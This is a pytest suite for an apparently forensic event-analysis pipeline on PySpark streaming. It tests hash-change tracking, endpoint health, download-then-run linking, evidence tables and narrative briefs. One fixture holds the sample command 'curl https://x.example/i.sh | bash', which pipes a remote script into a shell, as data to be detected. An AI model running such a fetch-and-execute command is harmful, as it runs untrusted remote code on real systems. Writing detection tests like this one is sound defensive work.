"""Streams over files and memory, driven to completion."""

import random
import time
from collections import Counter
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from traceloom import sinks as K
from traceloom.operators import activity as A
from traceloom.operators.cross_source import link_downloads
from traceloom.operators.ledger import hash_history
from traceloom.operators.scoring import classify_events
from traceloom.pipeline import run_pipeline
from traceloom.streaming import streams as ST
from traceloom.streaming.replay import replay

T0 = datetime(2024, 1, 1)


def feed(spark, tmp_path, name, batches):
    """Write each batch as a file set of its own and read the folder as a stream."""
    folder = str(tmp_path / name)
    for batch in batches:
        batch.coalesce(1).write.mode("append").parquet(folder)
    return spark.readStream.schema(batches[0].schema).option("maxFilesPerTrigger", 1).parquet(folder)


def drain(stream, name, mode="append"):
    query = stream.writeStream.format("memory").queryName(name).outputMode(mode).trigger(
        availableNow=True).start()
    assert query.awaitTermination(120)
    return stream.sparkSession.table(name).collect()


def watch(stream, name, rows, seconds=60):
    """A stream with processing-time timers never runs dry: wait for its rows, then stop it."""
    query = stream.writeStream.format("memory").queryName(name).outputMode("append").start()
    until = time.time() + seconds
    while time.time() < until and (
            stream.sparkSession.table(name).count() < rows or query.lastProgress is None):
        time.sleep(0.5)
    query.stop()
    return stream.sparkSession.table(name).collect()


def test_score_and_dedupe(spark, tmp_path, make_events, make_artifacts):
    run = {"kind": "EXECUTION_EVIDENCE", "ran": True, "image": "/tmp/x", "ts": "2024-01-01T00:00:00"}
    events = make_events([{**run, "record": "same"}, {**run, "record": "same"}, {**run, "record": "r3"}])
    scored = drain(ST.stream_score(feed(spark, tmp_path, "s", [events]), make_artifacts(
        [{"path": "/tmp/x"}])), "scored")
    assert [r["classification"]["score"] for r in scored] == [6, 6, 6]
    assert len(drain(ST.stream_dedupe(feed(spark, tmp_path, "d", [events])), "deduped")) == 2


OBSERVED = "endpoint_id string, path string, algorithm string, hash string, size_bytes long, ts timestamp, seq long"


def observations(spark, n, seed):
    rng = random.Random(seed)
    return spark.createDataFrame([(
        f"h{rng.randint(0, 2)}", f"/p{rng.randint(0, 3)}", rng.choice(["SHA256", "SHA1", "sha256"]),
        rng.choice(["aa", "AA", "bb", None]), rng.choice([None, 1, 2 ** 60 + 1, 2 ** 60]), T0 + timedelta(
            minutes=30 * rng.randint(0, 60)) if rng.random() < 0.9 else None, rng.choice([None, number]))
        for number in range(n)], OBSERVED)


def found(df):
    return Counter((r["endpoint_id"], r["path"], r["ts"], r["seq"], r["hash"], r["size_bytes"], r["status"],
                    r["previous_hash"], r["previous_ts"]) for r in df.collect())


def test_hash_changes_as_the_batch_rule(spark):
    seen = observations(spark, 300, 1)
    last = spark.createDataFrame([("", "", "", "", 0, T0 + timedelta(days=99), 0)], OBSERVED)
    told = replay(spark, {"seen": (seen, "ts")}, lambda s: ST.stream_hash_changes(s["seen"]), runs=4, closing={"seen": last})
    assert found(told) == found(hash_history(seen.filter("ts IS NOT NULL")))
    assert found(replay(spark, {"seen": (seen.limit(0), "ts")}, lambda s: ST.stream_hash_changes(s["seen"]),
                        runs=2)) == Counter()


def test_hash_changes_in_any_order_of_arrival(spark, tmp_path):
    """Rows that arrive late, but not later than the watermark, are compared in order of time."""
    rows = [("h", "/a", "SHA256", x, 1, T0 + timedelta(minutes=m), m) for m, x in
            [(50, "y"), (0, "x"), (20, "x"), (90, "x"), (70, "y"), (3000, "z")]]
    stream = feed(spark, tmp_path, "late", [spark.createDataFrame([r], OBSERVED) for r in rows])
    told = sorted((r["ts"], r["status"]) for r in drain(ST.stream_hash_changes(stream, delay="1 hour"), "late"))
    assert [s for _, s in told] == ["first_recorded", "unchanged", "altered", "unchanged", "altered"]


def test_hash_changes_forget(spark, tmp_path):
    rows = [("h", p, "SHA256", "x", 1, T0 + timedelta(hours=h), h) for p, h in
            [("/a", 0), ("/b", 1), ("/z", 30), ("/a", 31), ("/z", 60), ("/z", 90)]]
    stream = feed(spark, tmp_path, "forget", [spark.createDataFrame([r], OBSERVED) for r in rows])
    told = drain(ST.stream_hash_changes(stream, delay="1 minute", forget_after="10 hours"), "forgotten")
    assert [r["status"] for r in told if r["path"] == "/a"] == ["first_recorded"] * 2


BEAT = "endpoint_id string, ts timestamp, status string"


def test_health_of_all_kinds(spark):
    hour = timedelta(hours=1)
    beats = spark.createDataFrame([
        ("a", T0, "active"), ("a", T0 + 9 * hour, "active"), ("b", T0, "active"), ("c", T0 + hour, "revoked"),
        ("e", T0, "active"), ("e", T0 + 9.5 * hour, "active"), ("f", None, "active"), ("z", T0 + 10 * hour, "active")], BEAT)
    hosts = spark.createDataFrame([("a", "active", None), ("d", "active", None), ("g", "revoked", None),
                                   ("h", "active", T0 - hour)], "endpoint_id string, status string, last_seen timestamp")
    told = replay(spark, {"beats": (beats, "ts")}, lambda s: ST.stream_endpoint_health(
        s["beats"], hosts, stale_seconds=7200), runs=4)
    by = {}
    for r in sorted(told.collect(), key=lambda r: r["change"]):
        by.setdefault(r["endpoint_id"], []).append((r["state"], r["last_seen"]))
    assert [[s for s, _ in by[h]] for h in "abcdegh"] == [
        ["healthy", "stale", "healthy"], ["healthy", "stale"], ["revoked"], ["never_seen"],
        ["healthy", "stale", "healthy"], ["revoked"], ["stale"]]
    assert by["b"][1][1] == T0 and by["h"][0][1] == T0 - hour and by["d"][0][1] is None and "f" not in by


def test_a_replayed_heartbeat_is_stale(spark):
    """By the clock of the collector; one that is no newer than the last changes nothing."""
    rows = [("a", T0, "active", T0), ("b", T0, "active", T0 + timedelta(hours=5)), ("z", T0 + timedelta(hours=5), "active",
             T0 + timedelta(hours=5)), ("z", T0, "revoked", T0 + timedelta(hours=7)), ("b", T0 - timedelta(hours=1), "revoked",
             T0 + timedelta(hours=7)), ("c", T0 + timedelta(hours=1), "active", T0 + timedelta(hours=10))]
    beats = spark.createDataFrame(rows, BEAT + ", received_at timestamp")
    told = replay(spark, {"beats": (beats, "received_at")}, lambda s: ST.stream_endpoint_health(
        s["beats"], stale_seconds=3600, clock="received_at"), runs=5)
    by = {}
    for r in sorted(told.collect(), key=lambda r: r["change"]):
        by.setdefault(r["endpoint_id"], []).append(r["state"])
    assert by["a"] == ["healthy", "stale"] and by["b"][-1] == "stale" and by["c"] == ["stale"]
    assert by["z"] == ["healthy", "stale"]


def test_sweep(spark, tmp_path):
    tasks = spark.createDataFrame([("t1", T0, "dispatched", 3, 3), ("t2", T0, "succeeded", 1, 3)],
                                  "task_id string, ts timestamp, status string, attempts int, max_attempts int")
    rows = watch(ST.stream_sweep_tasks(feed(spark, tmp_path, "w", [tasks]), stale_seconds=1), "swept", 1)
    assert [(r["task_id"], r["new_status"]) for r in rows] == [("t1", "abandoned")]


def test_download_then_run(spark, tmp_path, make_events):
    got = spark.createDataFrame([("h", "/d/tool", T0), ("h", "/d/other", T0)],
                                "endpoint_id string, target_path string, downloaded_at timestamp")
    events = make_events([{"command": "/d/tool --x", "ts": "2024-01-01T05:00:00"},
                          {"command": "/d/other", "ts": "2024-01-03T05:00:00"}])
    rows = drain(ST.stream_download_then_run(feed(spark, tmp_path, "dl", [got]), feed(
        spark, tmp_path, "ev", [events])), "ran")
    assert [r["target_path"] for r in rows] == ["/d/tool"]


def test_first_runs_as_the_batch_rule(spark, make_events, make_artifacts):
    rng = random.Random(3)
    paths = [f"/d/t{n}" for n in range(6)]
    got = spark.createDataFrame([("i", "h", rng.choice(paths), T0 + timedelta(hours=rng.randint(0, 90)), n)
                                 for n in range(60)] + [("i", "h", "/d/none", T0, 60), ("i", "h", None, T0, 61)],
                                "investigation_id string, endpoint_id string, target_path string, downloaded_at timestamp, n int")
    events = make_events([{"command": f"run {rng.choice(paths[:5])} {paths[1]}", "id": f"e{n}", "ts": str(
        T0 + timedelta(hours=rng.randint(30 if n else 5, 80)))} for n in range(12)] + [{"command": f"run {paths[0]}"}])
    last = make_events([{"command": "/end", "host": "", "inv": "", "ts": str(T0 + timedelta(days=99))}])
    told = replay(spark, {"got": (got, "downloaded_at"), "ran": (events, "ts")}, lambda s: ST.stream_first_runs(
        s["got"], s["ran"]), runs=4, closing={"ran": last})
    dated = events.filter("ts IS NOT NULL").drop("reference")
    batch = link_downloads(got, make_artifacts([{"path": "/x"}]), dated).filter("event IS NOT NULL")
    rows = sorted((r["n"], r["event_id"], round(r["gap_hours"], 6)) for r in told.collect())
    assert rows == sorted((r["n"], r["event"], round(r["gap_hours"], 6)) for r in batch.collect())
    assert len({n for n, _, _ in rows}) == len(rows) > 10 and any(g < 0 for _, _, g in rows)


def test_sittings(spark, tmp_path, make_events):
    rows = [{"command": "x", "user": "ann", "ts": t} for t in (
        "2024-01-01T00:00:00", "2024-01-01T00:30:00", "2024-01-01T02:00:00")] + [{"command": "x", "user": "ann"}]
    got = sorted(r["records"] for r in ST.session_activity(make_events(rows)).collect())
    assert got == [1, 2]
    closing = make_events([{"command": "x", "user": "bob", "ts": "2024-01-05T00:00:00"}])
    stream = ST.stream_session_activity(feed(spark, tmp_path, "st", [make_events(rows), closing]))
    seen = sorted(r["records"] for r in drain(stream, "sittings") if r["user"] == "ann")
    assert seen == [1, 2]


def test_late_rows_are_kept_apart(make_events):
    rows = make_events([{"command": "x", "ts": "2024-01-01T00:00:00"}, {"command": "y", "ts": "2024-01-02T00:00:00"},
                        {"command": "z"}])
    good, late = ST.split_late(rows, "2 HOURS", as_of="2024-01-02 01:00:00")
    assert (good.count(), late.count()) == (2, 1)


def test_tables_packages_and_narratives(spark, tmp_path, make_events):
    scored = classify_events(make_events([{"command": "a"}, {"command": "b", "inv": "j"}]))
    groups = A.activity_groups(scored)
    K.write_evidence_tables({"activity": groups}, str(tmp_path / "db"), run_id="r1")
    K.write_evidence_tables({"activity": groups}, str(tmp_path / "db"), run_id="r1")
    assert K.read_evidence_table(spark, str(tmp_path / "db"), "r1", "activity").count() == 2
    assert K.committed_tables(spark, str(tmp_path / "db")).count() == 1
    K.write_package({"events": scored.select("event_id", "evidence_kind")}, str(tmp_path / "p"))
    manifest = spark.read.parquet(str(tmp_path / "p" / "manifest"))
    from traceloom.operators.ledger import package_verdict, verify_package
    now = K.package_digests(spark, str(tmp_path / "p"))
    assert package_verdict(verify_package(manifest, now)).collect()[0]["verified"]
    target = next((tmp_path / "p" / "data").rglob("part-*.json"))
    target.write_text(target.read_text() + " ")
    for crc in (tmp_path / "p" / "data").rglob(".*.crc"):
        crc.unlink()
    states = verify_package(manifest, K.package_digests(spark, str(tmp_path / "p")))
    assert states.filter("state = 'mismatched'").count() == 1
    text = spark.createDataFrame([("i", "one")], "investigation_id string, statement string")
    for report in ("a", "b", "a"):
        K.write_narrative(text, str(tmp_path / "n"), report_id=report)
    assert spark.read.parquet(str(tmp_path / "n")).count() == 2


def test_evidence_tables_are_seen_together(spark, tmp_path):
    root = str(tmp_path / "db")
    one = spark.range(3).selectExpr("id", "'i' AS investigation_id", "CAST(id AS STRING) AS v")
    first = K.write_evidence_tables({"a": one, "none": one.limit(0), "flat": spark.range(2)}, root, run_id="r")
    broken = one.withColumn("v", F.raise_error(F.lit("stopped")).cast("string"))
    with pytest.raises(Exception, match="stopped"):
        K.write_evidence_tables({"a": one.limit(1), "none": broken}, root, run_id="r")
    with pytest.raises(Exception, match="stopped"):
        K.write_evidence_tables({"a": broken}, root, run_id="never")
    assert {(r["name"], r["attempt"], r["rows"]) for r in K.committed_tables(spark, root).collect()} == {
        ("a", first, 3), ("none", first, 0), ("flat", first, 2)}
    assert sorted(map(tuple, K.read_evidence_table(spark, root, "r", "a").collect())) == [
        (i, "i", str(i)) for i in range(3)]
    empty = K.read_evidence_table(spark, root, "r", "none")
    assert empty.count() == 0 and empty.columns == one.columns
    for run, name in (("r", "other"), ("never", "a")):
        with pytest.raises(ValueError):
            K.read_evidence_table(spark, root, run, name)
    K.write_evidence_tables({"a": one.filter("id = 1")}, root, run_id="r")
    assert K.read_evidence_table(spark, root, "r", "a").count() == 1 and K.committed_tables(spark, root).count() == 1
    with pytest.raises(ValueError):
        K.read_evidence_table(spark, root, "r", "flat")


def test_pipeline(make_events, make_artifacts):
    run = {"kind": "EXECUTION_EVIDENCE", "ran": True, "source": "systemd journal"}
    events = make_events([{**run, "image": "/tmp/x"}, {"command": "pip install findmail", "record": "/h:1"},
                          {"command": "findmail a@example.com", "record": "/h:2"}]).drop("reference")
    out = run_pipeline({"events": events, "artifacts": make_artifacts([{"path": "/tmp/x"}]).drop("reference")})
    assert out["leads"].collect()[0]["priority"] == "PRIORITY_1"
    assert out["threads"].count() == 1 and out["findings"].count() == 2
    assert out["activity"].agg({"occurrences": "sum"}).collect()[0][0] == 3


def test_pipeline_to_the_summary(spark, make_events, make_artifacts):
    run = {"kind": "EXECUTION_EVIDENCE", "ran": True, "source": "systemd journal"}
    events = make_events([{**run, "image": "/tmp/x", "ts": "2024-01-01T00:00:00"}, {"command": "pip install findmail", "record": "/h:1"},
                          {"command": "findmail a@example.com", "record": "/h:2"}]).drop("reference")
    artifacts = make_artifacts([{"path": "/tmp/x"}, {"path": "/tmp/gone", "status": "MISSING"}]).drop("reference").withColumn(
        "modified", F.lit(None).cast("timestamp"))
    sources = spark.createDataFrame([("i", "systemd journal", "AVAILABLE", None), ("i", "kernel audit log", "PERMISSION_DENIED", "no")],
                                    "investigation_id string, name string, status string, detail string")
    flags = spark.createDataFrame([("i", True, False, False)], "investigation_id string, execution_truncated boolean, "
                                  "artifacts_truncated boolean, processes_truncated boolean")
    memory = spark.createDataFrame([("i", "m", 4, 0, "System"), ("i", "m", 70, 999, "odd"), ("i", "m", 71, 4, "fine")],
                                   "investigation_id string, image string, pid long, parent_pid long, process_name string")
    images = spark.createDataFrame([("i", "m", "REAL")], "investigation_id string, image string, provenance string")
    out = run_pipeline({"events": events, "artifacts": artifacts, "sources": sources, "flags": flags, "memory": memory,
                        "memory_images": images})
    assert out["findings"].filter("category = 'memory_orphan_process'").count() == 1
    assert {r["category"] for r in out["limitations"].collect()} == {"telemetry_unavailable", "collection_truncated",
                                                                      "undated_evidence"}
    counts = out["record_counts"].collect()[0]
    assert counts["findings"] == out["findings"].count() and counts["collection_limitations"] == out["limitations"].count()
    told = {(r["section"], r["position"]): r for r in out["case_summary"].collect()}
    assert told["scope", 1]["statement"].startswith("3 distinct activities from 1 of 2 telemetry sources")
    assert told["threads", 1]["statement"].startswith("1 thread(s) were formed")
    assert told["priority", 1]["evidence_ids"]
    assert out["conclusion"].count() == 1 and out["significant_events"].filter("kind = 'FINDING'").count() > 0


@pytest.mark.parametrize("kind", ["activity", "execution_event", "finding", "artifact"])
def test_briefs_for_all_subjects(make_events, make_artifacts, kind):
    from traceloom.operators import correlate as C
    from traceloom.operators import narrative as N
    scored = classify_events(make_events([{"command": "curl https://x.example/i.sh | bash", "user": "ann"},
                                          {"image": "/tmp/x", "kind": "EXECUTION_EVIDENCE", "ran": True}]))
    arts = make_artifacts([{"path": "/tmp/x"}])
    found, _, _ = C.correlate(scored, arts)
    tables = {"groups": A.activity_groups(scored), "records": A.activity_records(scored), "artifacts": arts,
              "findings": found}
    rows = N.briefs(tables, kind).collect()
    assert rows and all(r["summary"] and r["evidence_ids"] for r in rows)
    with pytest.raises(ValueError):
        N.briefs(tables, "nothing")


class Store:
    """A handle that counts the calls to the state store."""

    def __init__(self):
        self.calls, self.rows, self.timers = 0, None, []

    def getListState(self, name, schema):
        return self

    getValueState = getListState

    def registerTimer(self, at):
        self.calls += 1
        self.timers.append(at)

    def get(self):
        self.calls += 1
        return iter(self.rows) if isinstance(self.rows, list) else self.rows

    def exists(self):
        self.calls += 1
        return self.rows is not None

    def update(self, row):
        self.calls, self.rows = self.calls + 1, row

    def appendValue(self, row):
        self.calls, self.rows = self.calls + 1, (self.rows or []) + [row]

    def getCurrentWatermarkInMs(self):
        return 0


@pytest.mark.parametrize("kind", ["digests", "hosts", "runs"])
def test_a_bucket_is_one_call_not_one_a_key(kind):
    from traceloom.streaming import states
    made = {"digests": lambda: states.DigestsInOrder(["hash", "algorithm"], [], None), "hosts": lambda: states.HostStates(1000),
            "runs": lambda: states.FirstRun(["endpoint_id", "path"], 1000)}[kind]()
    store = Store()
    made.init(store)
    rows = [{"endpoint_id": f"h{n}", "path": "/p", "micros": n * 1000, "hash": "x", "algorithm": "y", "status": "active",
             "record": "r", "event_id": "e", "download": None} for n in range(500)]
    list(made.handleInputRows((0,), iter(rows), store))
    assert store.calls < 10 and len(store.timers) < 2


def test_hash_changes_go_to_state_packed(spark):
    """Nulls among the keys, several packs a bucket: as the batch rule; Python meets a pack, not a row, and drops what was overtaken."""
    import pyarrow as pa
    from traceloom.streaming import states
    seen = observations(spark, 200, 4).unionByName(spark.createDataFrame([
        (host, path, "SHA256", x, 1, T0 + timedelta(hours=h), h) for host, path in ((None, "/p0"), ("h0", None), (None, None))
        for h, x in enumerate(["aa", "aa", "bb"])], OBSERVED))
    last = spark.createDataFrame([("", "", "", "", 0, T0 + timedelta(days=99), 0)], OBSERVED)
    told = replay(spark, {"seen": (seen, "ts")}, lambda s: ST.stream_hash_changes(s["seen"], buckets=3), runs=2,
                  closing={"seen": last}, settings={"spark.sql.shuffle.partitions": "2"})
    assert found(told) == found(hash_history(seen.filter("ts IS NOT NULL")))

    def packs(micros, at_once=10_000):
        n = len(micros)
        rows = pa.RecordBatch.from_pydict({"bucket": pa.array([0] * n, pa.int32()), "endpoint_id": ["h"] * n, "path": ["/p"] * n,
                                           "micros": micros, "hash": ["x"] * n, "algorithm": ["y"] * n})
        return [r for b in states.pack((rows.slice(i, 100) for i in range(0, n, 100)), at_once) for r in b.to_pylist()]

    class Kept(Store):
        now = 0

        def getListState(self, name, schema):
            return Kept()

        getValueState = getListState

        def clear(self):
            self.rows = None

        def getCurrentWatermarkInMs(self):
            return self.now

    made, store = states.DigestsInOrder(["hash", "algorithm"], [], None), Kept()
    made.init(store)
    first = packs([1_000_000 * n for n in range(2000)], 500)
    assert len(first) == 4 and len(packs([0] * 2000)) == 1
    list(made.handleInputRows((0,), iter(first), store))
    store.now = 1_500_000
    out = list(made.handleExpiredTimer((0,), store, None))
    assert len(out) == 1 and store.timers == [1, 1_501_000]
    list(made.handleInputRows((0,), iter(packs([1_400_000_000, 1_500_500_000], 500)), store))          # the first was overtaken
    store.now = 9_000_000
    out += made.handleExpiredTimer((0,), store, None)
    rows = [r for b in states.unpack([pa.RecordBatch.from_pydict({"rows": [r["rows"] for r in out]})]) for r in b.to_pylist()]
    assert len(rows) == 2001 and [r["micros"] for r in rows] == sorted(r["micros"] for r in rows)
    assert [r["previous_micros"] for r in rows] == [None, *[r["micros"] for r in rows[:-1]]]
